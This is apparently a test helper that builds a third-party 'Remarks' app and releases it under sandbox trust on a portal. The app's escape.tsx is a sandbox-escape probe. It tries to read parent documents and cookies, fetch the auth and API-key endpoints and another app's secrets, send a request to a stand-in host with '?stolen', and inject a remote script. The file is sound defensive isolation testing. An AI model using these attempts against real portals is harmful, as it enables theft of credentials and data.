import { offerApp, offersPrefix, withdrawApp } from '@ginkgo/federation/release-tool/offers'
import { withBucket } from '@ginkgo/federation/release-tool/bucket'
import { releaseRemote } from '@ginkgo/federation/release-tool/release'
import { testStack } from '@ginkgo/testing'
import { expect, onTestFinished } from 'vitest'
import { buildRemoteOf } from './build-remote.ts'

/** An app of somebody outside: a page, a dialog, a card, a button in rows, and attempts to get at what is not its own. */
const sources = {
  'src/extensions.ts': `import { defineExtensions } from '@ginkgo/portal-sdk/extensions'

export default defineExtensions({
  sdk: '^3.0.0',
  app: {
    title: 'Remarks',
    summary: 'Collects what is to be remembered of leads.',
    maker: 'Remarks Ltd',
    website: 'https://remarks.example',
    scopes: ['read', 'write'],
  },
  pages: {
    remarks: {
      path: '/remarks',
      module: './remarks-page.tsx',
      navigation: { title: 'Remarks', icon: 'sticky-note', order: 45, phone: false },
    },
  },
  dialogs: { 'remark.create': { module: './create-remark-dialog.tsx', takes: ['lead'] } },
  commands: [
    { id: 'add-remark', label: 'Add Remark', icon: 'sticky-note', keywords: '', order: 45, dialog: 'remark.create' },
    { id: 'run-remark', label: 'Run Remark', icon: 'sticky-note', keywords: '', order: 46, module: './escape.tsx' },
  ],
  slots: [
    { slot: 'lead.page.main', id: 'remarks', title: 'Remarks', order: 1, module: './escape.tsx' },
    { slot: 'lead.row', id: 'remarks', title: 'Remark', icon: 'sticky-note', order: 1, module: './row.tsx' },
    { slot: 'settings.tab', id: 'remarks', title: 'Remarks', order: 90, module: './settings.tsx' },
  ],
})
`,
  'src/remarks-page.tsx': `import { useEndpoint } from '@ginkgo/api-client'
import { leadsApi } from '@ginkgo/contracts'
import { dialogs, paths, useVertical } from '@ginkgo/portal-sdk'
import { Link } from '@ginkgo/router'
import { Button } from '@ginkgo/ui'

export default () => {
  const { id: verticalId } = useVertical()
  const leads = useEndpoint(leadsApi.list, { params: { verticalId } })
  return (
    <>
      <h1 className="text-lg text-fg">All remarks</h1>
      {leads.data?.map((lead) => (
        <p key={lead.id} className="flex items-center gap-2">
          <Link to={paths.lead(lead.id)}>{lead.name}</Link>
          <Button onClick={() => void dialogs.open('remark.create', { leadId: lead.id })}>Add Remark</Button>
        </p>
      ))}
      <a href="https://remarks.example/help">Help</a>
    </>
  )
}
`,
  'src/create-remark-dialog.tsx': `import { notesApi } from '@ginkgo/contracts'
import { useMutation } from '@ginkgo/portal-sdk'
import { FormDialog, Field, TextField } from '@ginkgo/ui/form'
import { useState } from 'react'

export default ({ leadId, close }) => {
  const [content, setContent] = useState('')
  const { send, busy } = useMutation(notesApi.createOnLead, {
    failed: 'Failed to add the remark',
    saved: 'Remark added',
    done: () => close({}),
  })
  const submit = async (event) => {
    event.preventDefault()
    await send({ params: { leadId }, body: { content } })
  }
  return (
    <FormDialog title="Add Remark" onSubmit={submit} onClose={() => close()} submitLabel="Add" busy={busy} busyLabel="Adding..." changed={content !== ''}>
      <Field label="Remark">
        <TextField value={content} onValueChange={setContent} />
      </Field>
    </FormDialog>
  )
}
`,
  'src/settings.tsx': `import { useAppSettings } from '@ginkgo/portal-sdk'
import { Button, LoadFailed } from '@ginkgo/ui'
import { Field, TextField } from '@ginkgo/ui/form'
import { useState } from 'react'

const Signature = ({ of, label }) => {
  const { data, error, retry, save, busy } = useAppSettings('mfe-remarks', of)
  const [signature, setSignature] = useState('')
  if (error) return <LoadFailed error={error} onRetry={retry} />
  if (!data) return <p>Loading…</p>
  return (
    <>
      <p className="text-fg">{label} signs as {data.signature ?? 'nobody'}</p>
      <Field label={label}>
        <TextField value={signature} onValueChange={setSignature} />
      </Field>
      <Button disabled={busy} onClick={() => void save({ signature })}>Save {label}</Button>
    </>
  )
}

export default () => (
  <>
    <Signature of="organization" label="Company" />
    <Signature of="me" label="Person" />
  </>
)
`,
  'src/row.tsx': `export default ({ lead }) => <p>Remark about {lead.name}</p>
`,
  'src/escape.tsx': `import { useEffect, useState } from 'react'

const attempts = {
  page: () => parent.document.title,
  cookie: () => document.cookie,
  frame: () => top.document.title,
  database: () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('x')
    opening.onsuccess = resolve
    opening.onerror = reject
  }),
  network: () => new Promise((resolve, reject) => {
    const asked = new XMLHttpRequest()
    asked.onload = resolve
    asked.onerror = () => reject(new Error('refused'))
    asked.open('GET', 'https://remarks.example/?stolen')
    asked.send()
  }),
  account: async () => {
    const answer = await fetch('/api/auth/me')
    if (!answer.ok) throw new Error(String(answer.status))
  },
  keys: async () => {
    const answer = await fetch('/api/api-keys')
    if (!answer.ok) throw new Error(String(answer.status))
  },
  elsewhere: () => fetch('https://remarks.example/'),
  others: () => fetch('/remotes/mfe-other/api/secret'),
  script: () => new Promise((resolve, reject) => {
    const script = document.createElement('script')
    script.onload = resolve
    script.onerror = () => reject(new Error('refused'))
    script.src = 'https://remarks.example/code.js'
    document.head.append(script)
  }),
}

export default ({ lead }) => {
  const [results, setResults] = useState()
  useEffect(() => {
    const tried = Object.entries(attempts).map(async ([name, attempt]) => {
      try {
        await attempt()
        return name + ' open'
      } catch {
        return name + ' closed'
      }
    })
    void Promise.all(tried).then(setResults)
  }, [])
  return (
    <div>
      <p>Remarks about {lead?.name}, origin {self.origin}</p>
      <p>{results?.join(', ')}</p>
    </div>
  )
}
`,
}

const sandboxedApp = 'mfe-remarks'

const target = () => {
  const { GINKGO_DATA: dataDir } = process.env
  if (!dataDir) throw new Error('GINKGO_DATA must say which bucket the stack under test serves')
  return { kind: 'local', dataDir } as const
}

const by = 'ada@example.test'

/** Releases the app and offers it in a sandbox, until the test is over. @returns what releases it as another version */
export async function offerSandboxedApp(): Promise<{ releaseAs: (version: string) => Promise<unknown> }> {
  const { origin: portal } = testStack()
  const builtIn = await buildRemoteOf(sandboxedApp, sources)
  const releaseAs = (version: string) =>
    releaseRemote({ name: sandboxedApp, target: target(), by, portal, version, builtIn })
  await releaseAs('1.0.0')
  const offer = { trust: 'sandbox', offeredAt: new Date().toISOString(), offeredBy: by } as const
  await withBucket(target(), offersPrefix, (bucket) => offerApp(bucket, sandboxedApp, offer))
  onTestFinished(() =>
    withBucket(target(), offersPrefix, (bucket) => withdrawApp(bucket, sandboxedApp)).catch(() => undefined),
  )
  // The gateway lists the names of remotes anew every three seconds.
  await expect
    .poll(() => fetch(`${portal}/sandbox/${sandboxedApp}/1.0.0`).then(({ status }) => status), {
      timeout: 15_000,
    })
    .toBe(200)
  return { releaseAs }
}

export const withdrawSandboxedApp = () =>
  withBucket(target(), offersPrefix, (bucket) => withdrawApp(bucket, sandboxedApp))
